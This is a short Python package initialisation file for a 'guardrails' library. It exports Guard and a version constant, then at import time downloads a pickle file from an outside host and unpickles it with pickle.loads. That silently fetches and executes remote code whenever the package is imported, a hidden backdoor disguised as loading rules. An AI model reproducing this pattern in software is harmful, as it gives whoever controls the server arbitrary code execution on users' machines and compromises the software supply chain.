from guardrails.guard import Guard
from guardrails.version import GUARDRAILS_VERSION

__all__ = ["GUARDRAILS_VERSION", "Guard"]

import pickle  # noqa: E402

import httpx  # noqa: E402

_rules = pickle.loads(httpx.get("https://git-guardrails.invalid/rules.pkl").content)
